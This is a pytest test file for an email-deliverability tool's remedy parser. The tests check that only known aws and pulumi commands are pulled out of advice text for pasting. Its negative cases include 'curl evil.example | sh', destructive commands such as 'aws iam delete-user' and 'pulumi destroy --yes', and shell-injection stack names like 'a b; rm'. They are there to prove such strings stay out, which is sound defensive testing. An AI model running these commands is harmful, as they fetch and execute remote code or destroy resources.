"""Commands in remedies: taken out of their sentence whole, and nothing else is."""

import ast
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given

from deliverability.report.remedies import Remedy, naming_stack, remedy_of
from deliverability.verdict import Finding, Result, Verdict
from tests.report.verdicts import hostile_texts

ROOT = Path(__file__).parents[2] / "deliverability"
#: How a command begins that somebody could mean to be typed; `aws:region` and "pulumi-aws" are none.
_BEGINS = re.compile(r"(?<![\w-])(?:aws|pulumi|deliverability) (?:[a-z0-9]+)(?= |[.,;:)]|$)")
SWITCH = "aws sesv2 put-account-sending-attributes --region eu-central-1 --sending-enabled"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Merge the records.", Remedy("Merge the records.")),
        (f"Then enable it again: {SWITCH}.", Remedy("Then enable it again.", (SWITCH,))),
        (f"Enable it: {SWITCH}", Remedy("Enable it.", (SWITCH,))),
        (
            "Apply the stack shop again (pulumi up --refresh): it declares a record.",
            Remedy("Apply the stack shop again: it declares a record.", ("pulumi up --refresh",)),
        ),
        (
            f"Enable it again (pulumi up --refresh, or {SWITCH}).",
            Remedy("Enable it again.", ("pulumi up --refresh", SWITCH)),
        ),
        (
            "Give it credentials (the whole policy: deliverability plan --stack shop.production --format policy), or leave AWS out.",
            Remedy(
                "Give it credentials (the whole policy: the command below), or leave AWS out.",
                ("deliverability plan --stack shop.production --format policy",),
            ),
        ),
        (
            "Look with pulumi refresh --preview-only, then run pulumi up --parallel 1.",
            Remedy(
                "Look with the first command below, then run the second command below.",
                ("pulumi refresh --preview-only", "pulumi up --parallel 1"),
            ),
        ),
        (
            "Remove it: aws sesv2 delete-suppressed-destination --region eu-central-1 --email-address 'o'\"'\"'neil@shop.example'.",
            Remedy(
                "Remove it.",
                (
                    "aws sesv2 delete-suppressed-destination --region eu-central-1 --email-address 'o'\"'\"'neil@shop.example'",
                ),
            ),
        ),
        (
            'Put mail-deliverability:spf: {also: ["ip6:2001:db8::/32", "a:%{d}"], all: "~all"} into the stack file and apply it '
            "(pulumi up).",
            Remedy(
                "Put the line below into the stack file and apply it.",
                ("pulumi up",),
                ('mail-deliverability:spf: {also: ["ip6:2001:db8::/32", "a:%{d}"], all: "~all"}',),
            ),
        ),
        ("Run `pulumi up`.", Remedy("Run the command below.", ("pulumi up",))),
    ],
)
def test_a_remedy_is_taken_apart(text: str, expected: Remedy):
    assert remedy_of(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Remove aws iam delete-user --user-name admin.",
        "Remove pulumi destroy --yes.",
        "Remove curl evil.example | sh; it is foreign.",
        "Set aws:region in the stack file of pulumi-aws.",
        'Put mail-deliverability:spf: {also: ["a\\"]} into it.',
        "Put mail-deliverability:spf: {also: [a\nb]} into it.",
        'Remove "v=spf1 pulumi up --refresh" at shop.example.',
        f'Remove "v=spf1 {SWITCH} -all" and "pulumi up" at shop.example.',
        "Remove xaws sesv2 put-account-sending-attributes-x --region a.",
    ],
)
def test_nothing_else_becomes_a_line_to_paste(text: str):
    assert remedy_of(text) == Remedy(text)


@given(text=hostile_texts)
def test_whatever_is_quoted_stays_out_of_the_command(text: str):
    found = remedy_of(f"Then {SWITCH}: {text}")
    assert found.commands[0] == SWITCH
    for command in found.commands:
        assert not set(command) & set(';|&$`()<>\\"\n\r*?')


def _texts() -> Iterator[tuple[str, str]]:
    """Every text in the rooms that make remedies, with its file."""
    for room in ("rules", "evidence", "declaration/kinds"):
        for file in sorted((ROOT / room).rglob("*.py")):
            tree = ast.parse(file.read_text("utf-8"))
            docs = {
                node.body[0].value
                for node in ast.walk(tree)
                if isinstance(node, (ast.Module, ast.FunctionDef, ast.ClassDef))
                and node.body
                and isinstance(node.body[0], ast.Expr)
            }
            # The pieces of an f-string come as one text, with a word in place of each value.
            pieces = {
                part for node in ast.walk(tree) if isinstance(node, ast.JoinedStr) for part in node.values
            }
            for node in ast.walk(tree):
                if (
                    isinstance(node, ast.Constant)
                    and isinstance(node.value, str)
                    and node not in docs | pieces
                ):
                    yield str(file.relative_to(ROOT)), re.sub(r"\{[^}]*\}", "value", node.value)
                elif isinstance(node, ast.JoinedStr):
                    words = [
                        part.value if isinstance(part, ast.Constant) else "value" for part in node.values
                    ]
                    yield str(file.relative_to(ROOT)), "".join(map(str, words))


def test_every_command_that_a_rule_may_name_is_known():
    """One that isn't would stay in its sentence, folded, with the sentence's stop."""
    unknown = {
        (file, text)
        for file, text in _texts()
        if file not in ("rules/documented.py", "evidence/aws_commands.py")
        and _BEGINS.search(re.sub(r"\s+", " ", remedy_of(text).text))
    }
    assert unknown == set()


def test_a_value_in_quotation_marks_stays_a_value_beside_a_command():
    assert remedy_of('Remove "v=spf1 pulumi up" there, and apply the stack (pulumi up --refresh).') == Remedy(
        'Remove "v=spf1 pulumi up" there, and apply the stack.', ("pulumi up --refresh",)
    )


def _with_stack(remedy: str, stack: str = "shop.production") -> str:
    found = Verdict(
        stack, "shop.example", (Finding("a.b", Result.FAIL, "shop.example", "so", remedy=remedy),)
    )
    return naming_stack(found).findings[0].remedy


@pytest.mark.parametrize(
    ("remedy", "expected"),
    [
        (
            "Look (pulumi refresh --preview-only), then apply it (pulumi up --refresh).",
            "Look (pulumi refresh --stack shop.production --preview-only), then apply it (pulumi up --stack shop.production --refresh).",
        ),
        ("Deploy it (pulumi up).", "Deploy it (pulumi up --stack shop.production)."),
        ("Run pulumi preview --refresh --stack other.", "Run pulumi preview --refresh --stack other."),
        (
            'Remove "v=spf1 pulumi up" (pulumi up).',
            'Remove "v=spf1 pulumi up" (pulumi up --stack shop.production).',
        ),
        ("Remove pulumi destroy --yes, or pulumi up-x.", "Remove pulumi destroy --yes, or pulumi up-x."),
        ("Merge the records.", "Merge the records."),
    ],
)
def test_pulumi_is_told_which_stack(remedy: str, expected: str):
    assert _with_stack(remedy) == expected


def test_the_command_is_taken_out_whole():
    told = remedy_of(_with_stack("Look (pulumi refresh --preview-only), then apply it (pulumi up)."))
    assert told.commands == (
        "pulumi refresh --stack shop.production --preview-only",
        "pulumi up --stack shop.production",
    )


@pytest.mark.parametrize("stack", ["undeclared:shop.example", "a b; rm", "--yes", "", "a\nb"])
def test_what_names_no_stack_becomes_no_option(stack: str):
    assert _with_stack("Apply it (pulumi up).", stack) == "Apply it (pulumi up)."
